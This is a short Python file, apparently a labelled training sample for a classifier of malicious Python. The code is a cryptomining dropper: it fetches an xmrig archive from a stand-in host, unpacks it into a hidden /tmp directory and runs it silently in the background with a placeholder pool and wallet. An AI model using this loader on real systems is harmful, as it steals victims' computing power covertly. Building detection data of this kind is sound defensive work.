# DEFANGED TRAINING SAMPLE for the shrike malicious-Python classifier. Never executed by anything.
# Addresses are documentation-only (127.0.0.1, 192.0.2.0/24, example.invalid); no working payload.
import os, tarfile, urllib.request, subprocess, multiprocessing

WORK = "/tmp/.X11-unix/.x"
os.makedirs(WORK, exist_ok=True)
archive = os.path.join(WORK, "x.tar.gz")
urllib.request.urlretrieve("http://192.0.2.66/xmrig-6.21.0-linux-static-x64.tar.gz", archive)
with tarfile.open(archive) as t:
    t.extractall(WORK)
binary = os.path.join(WORK, "xmrig-6.21.0", "xmrig")
os.chmod(binary, 0o755)
threads = max(1, multiprocessing.cpu_count() - 1)
subprocess.Popen([
    binary, "-o", "stratum+tcp://pool.example.invalid:3333",
    "-u", "4PLACEHOLDERWALLETADDRESSxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
    "-p", "x", "-t", str(threads), "--donate-level", "1", "--background",
], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
